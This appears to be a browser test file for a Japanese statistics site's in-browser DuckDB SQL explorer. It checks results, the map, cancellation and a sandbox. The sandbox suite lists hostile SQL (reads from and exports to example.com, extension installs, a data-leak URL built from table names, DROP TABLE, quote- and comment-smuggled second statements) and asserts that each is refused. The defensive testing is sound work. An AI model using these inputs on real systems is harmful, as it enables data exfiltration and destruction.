import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openSite, type SiteSession } from '../support/site';
import { shapeSelector, waitReady } from '../support/map-page';

let site: SiteSession;
beforeAll(async () => {
	site = await openSite();
	await site.page.goto(`${site.origin}/explore/`);
	await site.page.waitForSelector('[data-testid=sql-result]', { timeout: 60_000 });
});
afterAll(() => site?.close());

/** Runs `sql` and waits until the run button is free again; returns what the page then says. */
async function run(sql: string, timeout = 30_000): Promise<{ error: string | null; meta: string | null; note: string | null }> {
	const page = site.page;
	await page.waitForSelector('[data-testid=sql-run]:not([disabled])', { timeout });
	const before = Number(await page.getAttribute('[data-testid=explorer]', 'data-finished'));
	await page.fill('[data-testid=sql-input]', sql);
	await page.click('[data-testid=sql-run]');
	await page.waitForFunction((n) => Number(document.querySelector('[data-testid=explorer]')?.getAttribute('data-finished')) > n, before, { timeout });
	// Read at once, as the run left the page: a short locator timeout fails on a busy machine.
	return page.evaluate(() => {
		const text = (id: string) => document.querySelector(`[data-testid=${id}]`)?.textContent ?? null;
		return { error: text('sql-error'), meta: text('sql-meta'), note: text('sql-note') };
	});
}

const firstCell = () => site.page.textContent('[data-testid=sql-result] tbody td');

describe('the analysts\' page', () => {
	it('runs the example query with a table and a quick chart', async () => {
		expect(await site.page.locator('[data-testid=sql-result] tbody tr').count()).toBe(20);
		expect(await site.page.locator('[data-testid=quick-chart] rect').count()).toBe(20);
		await site.screenshot('explore');
	});

	it('runs the analyst\'s own SQL against the documented tables', async () => {
		await site.page.fill('[data-testid=sql-input]', `SELECT prefecture, round(100.0 * cards / population, 1) AS rate FROM prefectural_issuance WHERE release_date = DATE '2022-06-30' ORDER BY cards / population DESC`);
		await site.page.click('[data-testid=sql-run]');
		await site.page.waitForFunction(() => document.querySelector('[data-testid=sql-meta]')?.textContent?.startsWith('47行'));
		expect(await site.page.textContent('[data-testid=sql-result] tbody tr:first-child')).toContain('宮崎県');
	});

	it('shows DuckDB\'s message for bad SQL and keeps working', async () => {
		expect((await run('SELECT 1 +')).error).toBe('SQL を実行できませんでした: Parser Error: syntax error at end of input');
		await run('SELECT 42 AS answer');
		expect(await firstCell()).toBe('42');
		expect(site.foreignRequests).toEqual([]);
	});

	it('says exactly what stays on the device', async () => {
		const claim = await site.page.textContent('[data-testid=explore-privacy]');
		expect(claim).toContain('書いた SQL も結果もサーバーや外部へ送りません');
		expect(claim).toContain('このサイトから読み込んだ写し');
		expect(await site.page.textContent('main')).not.toContain('データはこの端末の外に出ません');
	});
});

describe('探索 as a sandbox', () => {
	const HOSTILE: [string, string][] = [
		[`SELECT * FROM read_csv('http://example.com/a.csv')`, 'read_csv'],
		[`SELECT * FROM 'http://example.com/a.csv'`, 'http://example.com/a.csv'],
		[`ATTACH 'http://example.com/x.db' AS x`, 'ATTACH'],
		[`COPY municipal_issuance TO 'http://example.com/x.csv'`, 'COPY'],
		[`EXPORT DATABASE 'http://example.com/'`, 'EXPORT'],
		[`LOAD httpfs`, 'LOAD'],
		[`INSTALL httpfs`, 'INSTALL'],
		[`FORCE INSTALL httpfs FROM 'http://example.com/'`, 'FORCE'],
		[`SET autoinstall_known_extensions = true`, 'SET'],
		[`PRAGMA enable_profiling`, 'PRAGMA'],
		[`SET VARIABLE u = 'http://example.com/leak/';\nSELECT * FROM read_csv(getvariable('u') || name) FROM municipalities`, 'SET'],
		[`SELECT 1; /* ; */ DROP TABLE municipal_issuance`, 'DROP'],
		[`DROP TABLE municipal_issuance`, 'DROP'],
		[`CREATE TABLE copy AS SELECT * FROM municipalities`, 'CREATE'],
		// Text that hid a statement from a guard that matched patterns instead of reading as DuckDB does.
		[`SELECT $é$'$é$; DROP TABLE municipal_issuance; --'`, 'DROP'],
		[`SELECT $é$'$é$; INSTALL httpfs; --'`, 'INSTALL'],
		[`SELECT E'\\''; DROP TABLE municipal_issuance; --'`, 'DROP'],
		[`SELECT 1 -- note\r; DROP TABLE municipal_issuance`, 'DROP']
	];

	it('refuses every hostile statement with a short Japanese message, before DuckDB, and sends nothing out', async () => {
		for (const [sql, word] of HOSTILE) {
			const { error } = await run(sql);
			expect(error, sql).toContain('探索では実行しません');
			expect(error, sql).toContain(word);
			expect(error!.length, sql).toBeLessThan(120);
			// The page stays usable after each refusal.
			await run('SELECT 42 AS answer');
			expect(await firstCell()).toBe('42');
		}
		expect(site.foreignRequests).toEqual([]);
	}, 300_000);

	it('runs on an engine whose way out is closed and locked (the second wall)', async () => {
		await run(`SELECT name, value FROM duckdb_settings() WHERE name IN ('lock_configuration', 'enable_external_access', 'autoinstall_known_extensions', 'autoload_known_extensions', 'allow_community_extensions') ORDER BY name`);
		const rows = await site.page.$$eval('[data-testid=sql-result] tbody tr', (trs) => trs.map((tr) => [...tr.querySelectorAll('td')].map((td) => td.textContent)));
		expect(Object.fromEntries(rows)).toEqual({
			allow_community_extensions: 'false',
			autoinstall_known_extensions: 'false',
			autoload_known_extensions: 'false',
			enable_external_access: 'false',
			lock_configuration: 'true'
		});
	});

	it('keeps the documented tables after a refused DROP, and the map still works', async () => {
		await run('DROP TABLE municipal_issuance');
		await run('SELECT count(*) AS n FROM municipal_issuance');
		expect(Number((await firstCell())?.replace(/,/g, ''))).toBeGreaterThan(0);
		await site.page.click('nav a:text-is("地図")');
		await waitReady(site.page);
		await site.page.waitForSelector('[data-testid=choropleth] [data-code="011002"]');
		expect(await site.page.getAttribute('[data-testid=choropleth] [data-code="011002"]', 'fill')).toMatch(/^(#|rgb)/);
		await site.page.goto(`${site.origin}/explore/`);
		await site.page.waitForSelector('[data-testid=sql-result]', { timeout: 60_000 });
	});

	// One that computes (stopped by DuckDB's cancel) and one that streams rows (stopped between batches).
	for (const runaway of ['SELECT count(*) FROM range(10000000000)', 'SELECT * FROM range(100000000)'])
		it(`stops a runaway query on 中止, the page answering all along, and runs the next one: ${runaway}`, async () => {
			const page = site.page;
			await page.fill('[data-testid=sql-input]', runaway);
			await page.click('[data-testid=sql-run]');
			await page.waitForSelector('[data-testid=sql-cancel]:not([disabled])');
			await page.waitForTimeout(1000);
			// The page itself answers while DuckDB works in its worker.
			const started = Date.now();
			await page.evaluate(() => new Promise((done) => requestAnimationFrame(done)));
			expect(Date.now() - started).toBeLessThan(1000);
			expect(await page.isDisabled('[data-testid=sql-run]')).toBe(true);
			await page.click('[data-testid=sql-cancel]');
			await page.waitForSelector('[data-testid=sql-note]', { timeout: 10_000 });
			expect(await page.textContent('[data-testid=sql-note]')).toContain('中止しました');
			await page.waitForSelector('[data-testid=sql-run]:not([disabled])', { timeout: 60_000 });
			await run('SELECT 42 AS answer', 60_000);
			expect(await firstCell()).toBe('42');
		});

	it('leaves the map responsive while a runaway query runs in 探索', async () => {
		const page = site.page;
		await page.fill('[data-testid=sql-input]', 'SELECT count(*) FROM range(10000000000)');
		await page.click('[data-testid=sql-run]');
		await page.waitForSelector('[data-testid=sql-cancel]:not([disabled])');
		await page.click('nav a:text-is("地図")');
		await waitReady(page);
		// The map's own engine answers a choice: another release's figures and colours.
		const before = await page.getAttribute(shapeSelector('011002'), 'fill');
		expect(before).toMatch(/\S/);
		await page.selectOption('[data-testid=release-select]', '2020-01-20');
		await expect.poll(() => page.textContent('[data-testid=pref-rate]'), { timeout: 30_000 }).toBe('12.5%');
		await expect.poll(() => page.getAttribute(shapeSelector('011002'), 'fill'), { timeout: 30_000 }).not.toBe(before);
		// Back on 探索 without a reload, nothing is left running: a new query runs and answers.
		await page.click('nav a:text-is("探索")');
		const { error } = await run('SELECT 42 AS answer', 60_000);
		expect(error).toBeNull();
		expect(await firstCell()).toBe('42');
	});

	it('shows both columns of a duplicated name, and the run button comes back', async () => {
		const { error } = await run('SELECT 1 AS a, 2 AS a, 3 AS a');
		expect(error).toBeNull();
		expect(await site.page.$$eval('[data-testid=sql-result] th', (ths) => ths.map((th) => th.textContent))).toEqual(['a', 'a', 'a']);
		expect(await site.page.$$eval('[data-testid=sql-result] tbody td', (tds) => tds.map((td) => td.textContent))).toEqual(['1', '2', '3']);
		expect(await site.page.isEnabled('[data-testid=sql-run]')).toBe(true);
	});

	it('shows the first 1,000 rows and says how many there were', async () => {
		const { meta, error } = await run('SELECT range AS n FROM range(5000)');
		expect(error).toBeNull();
		expect(meta).toMatch(/^5,000行（\d[\d,]* ms）。先頭1,000行を表示$/);
		expect(await site.page.locator('[data-testid=sql-result] tbody tr').count()).toBe(1000);
		expect(await site.page.textContent('.explorer')).toContain('結果は先頭1,000行まで表示します');
		expect(site.foreignRequests).toEqual([]);
	});
});
